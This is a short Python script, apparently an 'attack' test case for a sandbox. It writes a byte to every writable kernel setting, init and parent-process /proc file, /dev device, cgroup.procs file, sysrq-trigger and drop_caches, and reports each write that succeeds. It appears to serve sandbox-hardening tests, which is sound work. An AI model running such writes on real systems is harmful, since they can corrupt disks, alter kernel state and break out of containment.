# /// attack
# tries = "writes to the kernel's settings, to init's and the parent's files in /proc, and to devices"
# base = "blank"
# ///
import glob
import os

PLACES = glob.glob("/proc/sys/kernel/*") + glob.glob("/proc/1/*") + glob.glob("/proc/%d/*" % os.getppid())
PLACES += glob.glob("/dev/*") + glob.glob("/sys/fs/cgroup/**/cgroup.procs", recursive=True)
PLACES += ["/proc/sysrq-trigger", "/proc/sys/vm/drop_caches"]
for path in PLACES:
    if path.endswith(("/null", "/zero", "/full", "/random", "/urandom", "/tty", "/ptmx", "/stdout", "/stderr", "/stdin")) or os.path.isdir(path):
        continue
    try:
        number = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
        os.write(number, b"1")
        print("WORKED", path, flush=True)
    except OSError:
        pass
